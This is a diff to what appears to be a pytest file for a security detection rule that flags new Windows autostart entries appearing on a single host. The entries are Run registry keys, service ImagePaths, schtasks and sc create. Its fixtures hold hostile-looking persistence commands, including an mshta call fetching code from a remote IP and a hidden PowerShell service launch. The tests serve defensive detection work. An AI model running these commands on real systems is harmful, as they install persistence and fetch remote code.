@@ -1,4 +1,4 @@
-"""Command lines hard to read, and programs first started by a parent."""
+"""Command lines hard to read, programs first started by a parent, and what starts by itself on one host alone."""
 
 from __future__ import annotations
 
@@ -130,3 +130,69 @@ def test_what_a_parent_did_before_is_not_new() -> None:
 def test_a_day_is_no_past() -> None:
     last = command(0.9 * DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")
     assert levels("DeviceProcessEvents", [*history(1), last]) == {}
+
+
+AUTOSTART = "stat-new-autostart"
+RUN = r"HKEY_CURRENT_USER\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run"
+SERVICE = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Sync"
+PLACED = r"C:\Users\ana\AppData\Roaming\sync\s.exe"
+
+
+def key(host: str, name: str, data: str, path: str = RUN, seconds: float = 100.0) -> Row:
+    return at(
+        seconds, DeviceName=host, ActionType="RegistryValueSet", RegistryKey=path, RegistryValueName=name,
+        RegistryValueData=data,
+    )  # fmt: skip
+
+
+def keys(hosts: int = 6) -> list[Row]:
+    return [key(f"ws{i % hosts}", "Start", "3", r"HKLM\SYSTEM\ControlSet001\Services\BITS", i) for i in range(60)]
+
+
+def shells(hosts: int = 6) -> list[Row]:
+    return [command(i * 5.0, "cmd /c dir", f"ws{i % hosts}", "cmd.exe") for i in range(60)]
+
+
+@pytest.mark.parametrize(
+    ("entry", "expected"),
+    [
+        (key("ws1", "Sync", PLACED), {AUTOSTART: "low"}),
+        (key("ws1", "Sync", "mshta.exe http://45.77.10.20/a"), {AUTOSTART: "medium"}),
+        (key("ws1", "ImagePath", "%COMSPEC% /c powershell -w hidden -f x", SERVICE), {AUTOSTART: "medium"}),
+        (key("ws1", "Sync", r'"C:\Program Files\Sync\sync.exe" /background'), {}),
+        (key("ws1", "ImagePath", r"C:\Windows\System32\drivers\sync.sys", SERVICE), {}),
+        (key("ws1", "Sync", PLACED, r"HKCU\Software\Sync\Settings"), {}),
+        ({**key("ws1", "Sync", PLACED), "ActionType": "RegistryValueDeleted"}, {}),
+    ],
+)
+def test_what_starts_by_itself_on_one_host(entry: Row, expected: dict[str, str]) -> None:
+    assert levels("DeviceRegistryEvents", [*keys(), entry]) == expected
+
+
+def test_what_other_hosts_start_too() -> None:
+    both = [key("ws1", "Sync_1f2e3", PLACED), key("ws2", "Sync_99ab0", PLACED)]
+    assert levels("DeviceRegistryEvents", [*keys(), *both]) == {}
+
+
+def test_autostarts_need_hosts_to_compare() -> None:
+    assert levels("DeviceRegistryEvents", [*keys(3), key("ws1", "Sync", PLACED)]) == {}
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (r'schtasks.exe /create /sc minute /tn "My Sync" /tr C:\Users\Public\s.exe /f', "low"),
+        (r'sc \\fs1 create sync binpath= "cmd /c C:\Windows\Temp\s.bat"', "medium"),
+        (r"schtasks /create /sc daily /tn Backup /tr C:\Tools\backup.exe", None),
+        ("schtasks /query /tn Backup", None),
+    ],
+)
+def test_tasks_and_services_by_command(line: str, expected: str | None) -> None:
+    last = command(400, line, "ws1", "schtasks.exe")
+    assert levels("DeviceProcessEvents", [*shells(), last]).get(AUTOSTART) == expected
+
+
+def test_a_task_rolled_out_to_many_hosts() -> None:
+    line = r"schtasks /create /sc daily /tn Agent /tr C:\ProgramData\agent\run.exe"
+    rows = [command(400 + i, line, f"ws{i}", "schtasks.exe") for i in range(4)]
+    assert AUTOSTART not in levels("DeviceProcessEvents", [*shells(), *rows])
